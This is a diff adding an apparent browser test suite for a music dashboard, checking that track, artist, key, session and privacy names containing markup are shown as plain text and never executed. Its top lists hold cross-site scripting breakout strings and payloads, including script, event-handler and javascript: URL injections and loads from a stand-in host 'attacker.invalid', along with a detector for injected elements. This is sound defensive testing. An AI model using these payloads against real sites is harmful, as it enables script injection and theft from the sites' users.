@@ -1,0 +1,186 @@
+import { expect } from "bun:test";
+import { en } from "../../src/i18n/en.ts";
+import type { SectionName } from "../../src/pages/dashboard/visit.ts";
+import type { WatchedPage } from "../fixtures/chromium.ts";
+import { type DashboardStage, onTheDashboard } from "../fixtures/dashboard-page.ts";
+import { titled } from "../fixtures/overlay-page.ts";
+import { unfold } from "../fixtures/page-checks.ts";
+
+/** What may lead out of the place that a name is written to. */
+const breakouts = [
+  "",
+  `"`,
+  `'`,
+  `">`,
+  `'>`,
+  "`",
+  "</p>",
+  "</h3></section>",
+  "</title>",
+  "\n</textarea>",
+  "</script>",
+  "</style>",
+  "-->",
+  "]]>",
+  "&quot;&gt;",
+  "&lt;/p&gt;",
+  String.raw`\u003c/p\u003e`,
+  "%22%3E",
+  "\u2028",
+  "{source}",
+];
+
+const attacks = [
+  "<script>window.ran=1</script>",
+  "<script src=//attacker.invalid/ran></script>",
+  "<img src=/ran onerror=window.ran=1>",
+  "<svg/onload=alert(1)//",
+  `<iframe src="javascript:parent.ran=1"></iframe>`,
+  `<a href="javascript:window.ran=1" autofocus onfocus=window.ran=1>x</a>`,
+  "<details open ontoggle=confirm(1)>",
+  "<style>@import url(//attacker.invalid/ran);</style>",
+  `<meta http-equiv=refresh content="0;url=//attacker.invalid/ran">`,
+  " onmouseover=window.ran=1 style=background:url(//attacker.invalid/ran) x=",
+];
+
+const hostile = breakouts.flatMap((breakout) => attacks.map((attack) => breakout + attack));
+
+/** A page that is to stay harmless. */
+interface Guarded extends WatchedPage {
+  /** All that has gone wrong in it so far. */
+  harm(): Promise<string[]>;
+}
+
+async function guard(stage: DashboardStage, section: SectionName): Promise<Guarded> {
+  const watched = await stage.open(section);
+  const { page, complaints, hosts } = watched;
+  const dialogs: string[] = [];
+  const requests: string[] = [];
+  page.on("dialog", (dialog) => {
+    dialogs.push(dialog.message());
+    return dialog.dismiss();
+  });
+  page.on("request", (request) => {
+    if (new URL(request.url()).pathname === "/ran") requests.push(request.url());
+  });
+  const own = new URL(stage.server.url).host;
+  return {
+    ...watched,
+    async harm() {
+      // The content policy would stop most of it; nothing may come as far as that.
+      const elements = await page.evaluate(() => [
+        ...("ran" in window ? ["a script ran"] : []),
+        ...[...document.querySelectorAll("*")]
+          .filter((element) =>
+            element.matches(
+              "script:not([src^='/assets/']), style, base, meta[http-equiv], iframe:not([data-preview])",
+            )
+              ? true
+              : [...element.attributes].some(
+                  ({ name, value }) => name.startsWith("on") || /^javascript:/i.test(value),
+                ),
+          )
+          .map((element) => element.outerHTML.slice(0, 120)),
+      ]);
+      const foreign = [...hosts].filter((host) => host !== own);
+      return [...elements, ...dialogs, ...requests, ...foreign, ...complaints];
+    },
+  };
+}
+
+onTheDashboard(`${hostile.length} names that look like code`, (stage) => {
+  const { test } = stage;
+
+  test("stay the text that they are when they are heard on an open page", async () => {
+    await stage.hears();
+    const { page, harm } = await guard(stage, "nowPlaying");
+    for (const name of hostile) {
+      await stage.hears({
+        ...titled(name),
+        artists: [name, "and another"],
+        album: { name, artworks: [] },
+        device: { name, type: name, volumePercent: null },
+        source: name,
+      });
+      await page.waitForFunction(
+        (wanted) => document.querySelector(".playing .title")?.textContent === wanted,
+        name,
+      );
+      expect(await page.locator(".playing .words > p").allTextContents()).toEqual([
+        "Now playing",
+        name,
+        `${name}, and another`,
+        name,
+        name,
+        "",
+      ]);
+    }
+    expect(await harm()).toEqual([]);
+  }, 30_000);
+
+  test("do so when a page is drawn with them", async () => {
+    await stage.hears();
+    const { page, harm } = await guard(stage, "nowPlaying");
+    // Several at once: each on its own has been on the open page.
+    for (let at = 0; at < hostile.length; at += 20) {
+      const some = hostile.slice(at, at + 20);
+      const all = some.join(" ");
+      await stage.hears({
+        ...titled(all),
+        artists: some,
+        album: { name: all, artworks: [] },
+        device: { name: all, type: "speaker", volumePercent: null },
+      });
+      await page.goto(stage.address("nowPlaying"));
+      const [, title, artist, album] = await page.locator(".playing .words > p").allTextContents();
+      expect([title, artist, album]).toEqual([all, some.join(", "), all]);
+      expect(await harm()).toEqual([]);
+    }
+  }, 30_000);
+
+  test("do so as names of keys, of browsers and in the rules of privacy", async () => {
+    const { keys, sessions, privacy } = stage.server.accounts;
+    const { user } = stage.ada;
+    for (const name of hostile) {
+      await keys.add(user, name);
+      await sessions.open(user, `${name} Firefox/140 Windows`);
+    }
+    const lines = hostile.map((name) => name.replaceAll(/[\n\u2028]/g, ""));
+    await privacy.change(user, { pausedUntil: null, hiddenTitles: lines, hiddenArtists: lines });
+    const { page, harm } = await guard(stage, "keys");
+    await unfold(page);
+    const names = await page.locator(".rows h3").allTextContents();
+    expect(names.toSorted()).toEqual([...hostile, "first key"].toSorted());
+    expect(await harm()).toEqual([]);
+
+    await page.goto(stage.address("account"));
+    await unfold(page);
+    expect(await page.locator(".rows > li").count()).toBe(hostile.length + 1);
+    expect(await harm()).toEqual([]);
+
+    await page.goto(stage.address("privacy"));
+    expect(await page.locator("#titles").inputValue()).toBe(lines.join("\n"));
+    expect(await harm()).toEqual([]);
+  }, 30_000);
+
+  test("do so when they are typed and sent back as wrong", async () => {
+    const { page, complaints, harm } = await guard(stage, "server");
+    for (const name of [hostile[0], hostile[12], hostile[87], hostile[92]]) {
+      const typed = (name ?? "").trim();
+      await page.goto(stage.address("server"));
+      await page.locator("#user-name").fill(typed);
+      await page.getByRole("button", { name: en.dashboard.server.add }).click();
+      await page.getByRole("alert").waitFor();
+      expect(await page.locator("#user-name").inputValue()).toBe(typed);
+    }
+    // The status of each page, which browsers note in the console.
+    expect(complaints.splice(0).every((text) => text.includes("status of 422"))).toBe(true);
+    expect(await harm()).toEqual([]);
+
+    const [font = "", idleText = ""] = [hostile[5], hostile[12]];
+    await page.goto(`${stage.address("widget")}?${new URLSearchParams({ font, idleText })}`);
+    expect(await page.locator("#option-font").inputValue()).toBe(font);
+    expect(await page.locator("#option-idleText").inputValue()).toBe(idleText);
+    expect(await harm()).toEqual([]);
+  }, 30_000);
+});
